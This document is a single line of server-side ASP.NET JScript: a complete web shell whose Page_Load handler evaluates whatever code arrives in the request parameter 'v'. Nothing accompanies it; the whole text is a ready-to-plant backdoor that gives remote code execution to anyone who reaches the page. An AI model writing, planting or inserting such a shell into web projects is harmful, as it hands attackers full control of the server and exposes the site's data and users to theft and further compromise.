<SCRIPT LANGUAGE='JSCRIPT' RUNAT='SERVER'>function Page_Load(){eval(Request['v'],'unsafe');}</SCRIPT>
